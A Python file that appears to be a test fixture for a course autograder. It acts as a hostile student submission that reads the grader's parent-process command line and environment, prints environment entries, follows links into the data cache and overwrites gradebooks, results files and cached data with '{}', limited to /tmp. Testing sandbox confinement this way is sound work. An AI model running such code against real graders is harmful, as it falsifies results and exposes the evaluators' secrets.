# Looks for the batch it is graded in, as a hostile student on a course server would:
# through its parent's command line and environment, and the links in its
# own job folder (they lead to the data cache), then rewrites every gradebook, results.json
# and cached file it can reach, and reports what it learned of the grader's environment.
import os
from pathlib import Path

# What it rewrites: gradebooks, results, the baseline cache and decoded data. Kept to the
# temporary folder the tests run in, so that a confinement that fails in a test cannot
# reach anything else on the machine.
PATTERNS = ("gradebook*", "*/results.json", "*/*/results.json", "baselines/*.json",
            "calibration/*.json", "data/*/*.npy", "*.npy")
SAFE = Path("/tmp")  # not tempfile.gettempdir(): the grader points TMPDIR at the job folder


def places():
    found = set()
    ppid = os.getppid()
    for name in ("cmdline", "environ"):
        try:
            for item in Path(f"/proc/{ppid}/{name}").read_bytes().split(b"\0"):
                value = item.decode(errors="ignore").partition("=")[2] or item.decode(errors="ignore")
                if value.startswith("/"):
                    found.add(Path(value))
                if name == "environ" and item:
                    print("PARENT ENV", item[:60])
        except OSError as e:
            print("no", name, type(e).__name__)
    for link in Path.cwd().parent.glob("inputs/*"):  # they lead to the data cache
        found.add(Path(os.path.realpath(link)).parent)
    for path in list(found):
        found |= set(list(path.parents)[:2])
    return {p for p in found if SAFE in p.parents}


def rewrite(roots):
    hits = 0
    for root in roots:
        try:
            candidates = [p for pattern in PATTERNS for p in root.glob(pattern)]
        except OSError:
            continue
        for path in candidates:
            if Path.cwd().parent in path.parents:  # its own job folder: fair game, proves nothing
                continue
            try:
                with open(path, "r+b") as f:
                    f.write(b"{}")
                hits += 1
            except OSError:
                pass
    return hits


print("REWROTE", rewrite(places()))


def build_model(info):
    from torch import nn
    return nn.Sequential(nn.Flatten(), nn.Linear(info.in_channels * info.image_size[0] * info.image_size[1],
                                                 info.num_classes))


EPOCHS = 1
